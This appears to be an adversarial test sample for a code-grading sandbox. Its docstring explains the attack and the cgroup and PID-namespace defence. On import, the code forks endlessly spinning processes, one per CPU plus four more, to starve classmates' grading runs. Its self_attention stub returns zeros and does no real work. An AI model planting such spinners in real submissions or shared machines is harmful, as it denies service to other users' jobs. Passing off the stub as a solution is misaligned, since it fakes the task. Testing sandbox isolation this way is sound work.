"""Adversarial sample: take every CPU from the classmates graded beside it.

Attack: at import, start one spinning process per CPU of the machine (and four more) that never
stop, so that a classmate graded at the same time runs past its time limits and loses points.
New design: the submission's processes share one cpu cgroup (one CPU's worth, --cpus), so a
classmate keeps the rest of the machine; the spinners die with the worker's PID namespace. The
sample returns zeros.
"""
import os

import torch

for _ in range((os.cpu_count() or 1) + 4):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        break


def self_attention(x, w_q, w_k, w_v, causal=False):
    z = dict(dtype=x.dtype, device=x.device)
    return torch.zeros(*x.shape[:-1], w_v.shape[0], **z), torch.zeros(*x.shape[:-1], x.shape[-2], **z)
